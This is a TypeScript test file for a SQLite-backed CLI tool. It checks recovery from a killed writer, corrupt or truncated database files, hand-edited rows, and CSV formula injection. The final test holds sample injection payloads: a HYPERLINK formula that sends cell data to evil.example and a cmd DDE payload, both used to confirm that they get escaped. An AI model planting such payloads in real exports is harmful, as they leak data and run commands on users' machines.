// The store against hostile or broken input: a dead writer's open steps, a file that is not
// SQLite, a roll-up edited by hand, and spreadsheet formulas in `query --csv` cells.
import { mkdtempSync, rmSync, statSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runCli } from '../harness/cli/program.ts';
import { StoreError } from '../harness/errors.ts';
import { formatCsv } from '../harness/store/query.ts';
import { MAPPED_BYTES, openReadOnly, openStore, storeFailure } from '../harness/store/store.ts';
import { captureDeps } from './helpers/cli.ts';

const SMALL = fileURLToPath(new URL('./fixtures/traces/small.jsonl', import.meta.url));

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'overreach-hostile-store-'));
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

describe('a writer killed mid-run (kill -9)', () => {
  it('closes the steps it left running when the run is marked interrupted', () => {
    const path = join(dir, 'k.db');
    const store = openStore(path);
    const runId = store.createRun({
      package: 'p',
      device: 'd',
      scenario: 's',
      toolVersion: 't',
      startedAt: 1000,
    });
    const w = store.traceWriter(runId);
    const outer = w.beginStep({ kind: 'explore', label: 'explore', time: 1000 });
    w.endStep(w.beginStep({ kind: 'tap', label: 'tap', time: 1100 }), 'ok', undefined, 1200);
    w.beginStep({ kind: 'wait', label: 'wait 30s', time: 1300 });
    // A pid far above pid_max cannot be alive: the writer is gone.
    store.db.prepare('UPDATE runs SET owner_pid = 99999999 WHERE id = ?').run(runId);
    store.close();

    const reopened = openStore(path);
    expect(reopened.getRun(runId)!.status).toBe('interrupted');
    const steps = reopened.db
      .prepare('SELECT id, outcome, detail, ended_at FROM steps WHERE run_id = ? ORDER BY idx')
      .all(runId) as { id: number; outcome: string; detail: string | null; ended_at: number | null }[];
    expect(steps.map((s) => s.outcome)).toEqual(['failed', 'ok', 'failed']);
    expect(steps[0]!.id).toBe(outer);
    expect(steps[0]!.detail).toMatch(
      /^interrupted: writer process 99999999 .* ended without closing the run$/,
    );
    expect(steps[1]!.detail).toBeNull();
    for (const s of steps) expect(s.ended_at).not.toBeNull();
    expect(steps[2]!.ended_at).toBeGreaterThanOrEqual(1300);
    reopened.close();
  });
});

describe('a file that is not an SQLite database', () => {
  it.each([
    ['query', ['query', 'SELECT 1', '--db', 'notes.db']],
    ['report', ['report', 'latest', '--db', 'notes.db']],
    ['analyze', ['analyze', 'latest', '--db', 'notes.db']],
    ['ingest', ['ingest', 'notes.db', '--db', 'notes.db']],
  ])('%s names the file in a one-line error, exit 2', async (_name, args) => {
    writeFileSync(join(dir, 'notes.db'), 'these are my notes, not a database\n'.repeat(200));
    const deps = captureDeps(dir);
    const code = await runCli(args, deps);
    expect(deps.err()).toBe('overreach: notes.db: not an SQLite database (file is not a database)\n');
    expect(code).toBe(2);
  });
});

describe('a database file cut short (mapped readers: analyze, report)', () => {
  it.each([
    ['analyze', ['analyze', '1', '--db', 'cut.db']],
    ['report', ['report', '1', '--db', 'cut.db', '--format', 'md']],
  ])('%s stops with a one-line error naming the file, no crash', async (_name, args) => {
    const deps = captureDeps(dir);
    expect(await runCli(['ingest', SMALL, '--db', 'cut.db', '--package', 'com.example.app'], deps)).toBe(0);
    const file = join(dir, 'cut.db');
    const db = new Database(file);
    db.pragma('wal_checkpoint(TRUNCATE)');
    db.close();
    // Pages past the cut are gone: SQLite reads them past the end of the mapped file.
    truncateSync(file, Math.floor(statSync(file).size * 0.6));
    const bad = captureDeps(dir);
    const code = await runCli(args, bad);
    const lines = bad.err().trimEnd().split('\n');
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/^overreach: cut\.db: /);
    expect(code).toBeGreaterThan(0);
  });

  it('maps the pages of analysis and report readers, not of other openers', () => {
    const file = join(dir, 'm.db');
    openStore(file).close();
    const mapped = openStore(file, { mapped: true });
    expect(mapped.db.pragma('mmap_size', { simple: true })).toBe(MAPPED_BYTES);
    mapped.close();
    const plain = openStore(file);
    expect(plain.db.pragma('mmap_size', { simple: true })).toBe(0);
    plain.close();
    const ro = openReadOnly(file, file, { mapped: true });
    expect(ro.pragma('mmap_size', { simple: true })).toBe(MAPPED_BYTES);
    ro.close();
  });
});

describe('SQLite errors name the database', () => {
  it('"database is locked" says which file', () => {
    const err = storeFailure('farm.db', new Database.SqliteError('database is locked', 'SQLITE_BUSY'));
    expect(err).toBeInstanceOf(StoreError);
    expect((err as Error).message).toBe('farm.db: database is locked');
    const other = new Error('x');
    expect(storeFailure('farm.db', other)).toBe(other);
  });
});

describe('a stored roll-up edited by hand', () => {
  it('analyze names the file, table, run and row, exits 1, and says how to rebuild; rebuilt, it analyses', async () => {
    const deps = captureDeps(dir);
    expect(await runCli(['demo', '--out', 'd'], deps)).toBe(0);
    const file = join(dir, 'd', 'overreach.db');
    const db = new Database(file);
    db.prepare("UPDATE event_seconds SET sdks = 'x:1' WHERE run_id = 1").run();
    db.close();
    // background-access (span seconds) and popup-harassment (window seconds) both read the text.
    for (const only of ['background-access', 'popup-harassment']) {
      const bad = captureDeps(dir);
      expect(await runCli(['analyze', '1', '--db', 'd/overreach.db', '--only', only], bad)).toBe(1);
      const lines = bad
        .err()
        .trimEnd()
        .split('\n')
        .filter((l) => l.startsWith('overreach:'));
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatch(
        /^overreach: d\/overreach\.db: event_seconds\.sdks of run 1 \(category \d+, phase \d+, second \d+: "x:1"\) is not "sdk:n" pairs; DELETE FROM rollup_runs WHERE run_id = 1 rebuilds/,
      );
    }
    const fix = new Database(file);
    fix.prepare('DELETE FROM rollup_runs WHERE run_id = 1').run();
    fix.close();
    expect(await runCli(['analyze', '1', '--db', 'd/overreach.db'], captureDeps(dir))).toBe(0);
  });
});

describe('query --csv and spreadsheet formulas (OWASP CSV injection)', () => {
  it('neutralises cells that a spreadsheet would run as a formula', () => {
    const csv = formatCsv({
      columns: ['v'],
      rows: [
        ['=HYPERLINK("http://evil.example/?"&A1,"click")'],
        ["+1+cmd|' /C calc'!A0"],
        ['-2+3'],
        ['@SUM(A1:A2)'],
        ['\t=1+1'],
        ['\r=1+1'],
        ['plain'],
        [-5],
        [3.5],
        ['a=b'],
      ],
    });
    expect(csv.split('\r\n')).toEqual([
      'v',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
      `'+1+cmd|' /C calc'!A0`,
      `'-2+3`,
      `'@SUM(A1:A2)`,
      `'\t=1+1`,
      `"'\r=1+1"`,
      'plain',
      '-5',
      '3.5',
      'a=b',
      '',
    ]);
  });
});
